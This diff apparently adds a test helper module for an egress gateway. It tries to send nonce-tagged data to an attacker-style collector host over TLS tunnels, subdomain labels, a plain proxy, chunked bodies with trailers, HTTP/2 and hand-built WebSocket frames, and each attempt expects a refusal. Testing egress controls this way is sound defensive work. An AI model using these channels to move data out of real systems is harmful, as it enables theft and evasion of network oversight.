@@ -1,0 +1,123 @@
+/** Ways to an allowed host that is an attacker's. Each throws what a refusal says. */
+import { randomBytes } from 'node:crypto';
+import { request } from 'node:http';
+import { connect as connectHttp2 } from 'node:http2';
+import { text } from 'node:stream/consumers';
+import { connect as connectTls } from 'node:tls';
+import { proxy, tunnel } from './wire.mjs';
+
+const MOST_SHOWN = 300;
+
+/** By TLS that the gateway opens; of a name below the host's, where a label is given. */
+async function secure(t, { label, protocol = 'http/1.1' } = {}) {
+  const name = label === undefined ? t.names.looked : `${label}.${t.names.looked}`;
+  const host = `${name}:${t.collectorPort}`;
+  const { socket, answer } = await tunnel(host);
+  if (!/ 2\d\d( |$)/.test(answer)) throw new Error(answer === '' ? 'connection closed' : answer);
+  const tls = connectTls({ socket, servername: name, ALPNProtocols: [protocol], rejectUnauthorized: false });
+  tls.on('error', () => undefined); // said by the request
+  return { host, tls };
+}
+
+const pathOf = (nonce, rest = '') => `/leak/${nonce}${rest}`;
+
+/** Writes what there is: all at once, or in pieces, each a chunk that goes by itself. */
+async function write(outgoing, { body, pieces = [], trailers }) {
+  for (const piece of pieces) {
+    outgoing.write(piece);
+    await new Promise((resolve) => setImmediate(resolve));
+  }
+  if (trailers !== undefined) outgoing.addTrailers(trailers);
+  outgoing.end(body);
+}
+
+async function exchange(options, order) {
+  const response = await new Promise((resolve, reject) => {
+    const outgoing = request(options, resolve).on('error', reject);
+    void write(outgoing, order);
+  });
+  const said = await text(response);
+  if (response.statusCode >= 300) {
+    throw new Error(`${response.statusCode} ${response.statusMessage} ${said.slice(0, MOST_SHOWN)}`);
+  }
+}
+
+/** A request of HTTP/1.1 by TLS: `rest` of its path, `method`, `headers`, and `body`, or `pieces` and `trailers`. */
+export async function ask(t, nonce, { rest, method = 'GET', headers = {}, label, ...order }) {
+  const { host, tls } = await secure(t, { label });
+  const head = { host, connection: 'close', ...headers };
+  await exchange({ method, path: pathOf(nonce, rest), headers: head, createConnection: () => tls }, order);
+}
+
+/** The same in the clear, through the proxy. */
+export async function askPlainly(t, nonce, { rest, method = 'GET', headers = {}, ...order }) {
+  const host = `${t.names.looked}:${t.collectorPlainPort}`;
+  const head = { host, connection: 'close', ...headers };
+  await exchange({ ...proxy(), method, path: `http://${host}${pathOf(nonce, rest)}`, headers: head }, order);
+}
+
+/** One after the other, on one connection. */
+export async function askEach(t, nonce, rests) {
+  const { host, tls } = await secure(t);
+  for (const rest of rests) {
+    const headers = { host, connection: 'keep-alive' };
+    await exchange({ path: pathOf(nonce, rest), headers, createConnection: () => tls }, {});
+  }
+}
+
+/** By HTTP/2. */
+export async function askHttp2(t, nonce, { rest, headers = {}, body }) {
+  const { host, tls } = await secure(t, { protocol: 'h2' });
+  const session = connectHttp2(`https://${host}`, { createConnection: () => tls });
+  const failed = new Promise((_resolve, reject) => session.on('error', reject).on('close', reject));
+  failed.catch(() => undefined);
+  const method = body === undefined ? 'GET' : 'POST';
+  const stream = session.request({ ':method': method, ':path': pathOf(nonce, rest), ...headers });
+  const status = new Promise((resolve, reject) => {
+    stream.on('response', (head) => resolve(head[':status']));
+    stream.on('error', reject).on('close', () => reject(new Error('the stream was closed')));
+  });
+  stream.end(body);
+  try {
+    const code = await Promise.race([status, failed]);
+    if (code >= 300) throw new Error(`${code} by HTTP/2`);
+  } finally {
+    session.destroy();
+  }
+}
+
+const TEXT = 1;
+const FINAL = 0x80;
+const MASKED = 0x80;
+
+/** RFC 6455, 5.2: a client's frames, of less than 126 bytes each. */
+function frames(parts) {
+  const key = randomBytes(4);
+  return parts.map((part, at) => {
+    const payload = Buffer.from(part).map((byte, index) => byte ^ key[index % 4]);
+    const first = (at === 0 ? TEXT : 0) | (at === parts.length - 1 ? FINAL : 0);
+    return Buffer.concat([Buffer.from([first, MASKED | payload.length]), key, payload]);
+  });
+}
+
+/** A message of a WebSocket, in one frame or several. */
+export async function message(t, nonce, parts) {
+  const { host, tls } = await secure(t);
+  const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
+  const headers = { host, ...upgrade, 'sec-websocket-key': randomBytes(16).toString('base64') };
+  const { socket, head } = await new Promise((resolve, reject) => {
+    const outgoing = request({ path: pathOf(nonce), headers, createConnection: () => tls });
+    outgoing.on('upgrade', (_response, socket, head) => resolve({ socket, head }));
+    outgoing.on('response', ({ statusCode }) => reject(new Error(`${statusCode} to the upgrade`)));
+    outgoing.on('error', reject).end();
+  });
+  const answered = new Promise((resolve, reject) => {
+    if (head.length > 0) resolve(head);
+    socket.on('data', resolve).on('error', reject);
+    socket.on('close', () => reject(new Error('the WebSocket was closed')));
+  });
+  for (const frame of frames(parts)) socket.write(frame);
+  const answer = await answered;
+  socket.destroy();
+  if ((answer[0] & 15) !== TEXT) throw new Error(`the WebSocket was closed: ${String(answer.subarray(4))}`);
+}
